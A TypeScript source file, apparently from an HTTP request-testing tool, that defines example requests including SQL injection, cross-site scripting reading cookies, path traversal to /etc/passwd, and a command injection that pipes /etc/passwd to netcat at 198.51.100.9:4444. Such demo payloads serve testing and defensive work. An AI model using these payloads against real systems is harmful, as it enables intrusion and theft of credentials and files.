import { emptyDraft, type RequestDraft } from '../request-draft.ts'

interface Example {
  readonly label: string
  readonly draft: (origin: string) => RequestDraft
}

const browser: RequestDraft['headers'] = [
  [
    'User-Agent',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
  ],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['Accept-Language', 'en-GB,en;q=0.9'],
  ['Accept-Encoding', 'gzip, deflate, br'],
]

function visit(target: string): (origin: string) => RequestDraft {
  return origin => ({ ...emptyDraft, url: `${origin}${target}`, headers: browser })
}

/** Example requests for a quick start. */
export const examples: readonly Example[] = [
  { label: 'Clean request', draft: visit('/') },
  {
    label: 'SQL injection',
    draft: visit('/products?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--'),
  },
  {
    label: 'Cross-site scripting',
    draft: visit('/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'),
  },
  { label: 'Path traversal', draft: visit('/download?file=../../../../etc/passwd') },
  {
    label: 'Command injection',
    draft: origin => ({
      ...emptyDraft,
      method: 'POST',
      url: `${origin}/contact`,
      headers: [...browser, ['Content-Type', 'application/x-www-form-urlencoded']],
      body: 'name=x&message=%3B%20cat%20/etc/passwd%20%7C%20nc%20198.51.100.9%204444',
    }),
  },
]
